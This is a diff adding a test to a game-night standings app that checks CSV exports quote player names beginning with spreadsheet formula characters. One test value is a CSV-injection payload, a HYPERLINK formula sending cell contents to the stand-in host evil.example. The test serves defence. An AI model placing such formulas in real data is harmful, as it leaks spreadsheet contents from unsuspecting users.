@@ -577,3 +577,23 @@ def test_a_team_night_counts_each_teams_finish_for_its_players(organiser):
     assert len(standings.rows) == 8
     assert sorted(row.season_points for row in standings.rows) == [2, 2, 2, 2, 6, 6, 6, 6]
     assert [row.place for row in standings.rows] == [1, 1, 1, 1, 5, 5, 5, 5]
+
+
+def test_exports_quote_names_a_spreadsheet_would_run_and_keep_numbers(client, organiser):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    names = [formula, "-Ann", "@Bob", "+Cy", *EIGHT[:4]]
+    night = make_night(organiser, names=names, rounds=2)
+    play_all(night, organiser, 2)
+
+    text = client.get(reverse("standings-export", args=[night.pk, "csv"])).content.decode()
+    header, *rows = list(csv.reader(io.StringIO(text)))
+    by_name = {row[header.index("Player")]: row for row in rows}
+    assert {f"'{formula}", "'-Ann", "'@Bob", "'+Cy"} <= set(by_name)
+    assert formula not in by_name and "-Ann" not in by_name
+    differences = [row[header.index("Points difference")] for row in rows]
+    assert any(int(d) < 0 for d in differences)  # a number, not text: no quote in front
+    assert all(not d.startswith("'") for d in differences)
+
+    results = client.get(reverse("standings-results-export", args=[night.pk, "csv"]))
+    players = [row[3] for row in csv.reader(io.StringIO(results.content.decode()))][1:]
+    assert not any(cell.startswith(("=", "-", "@", "+")) for cell in players)
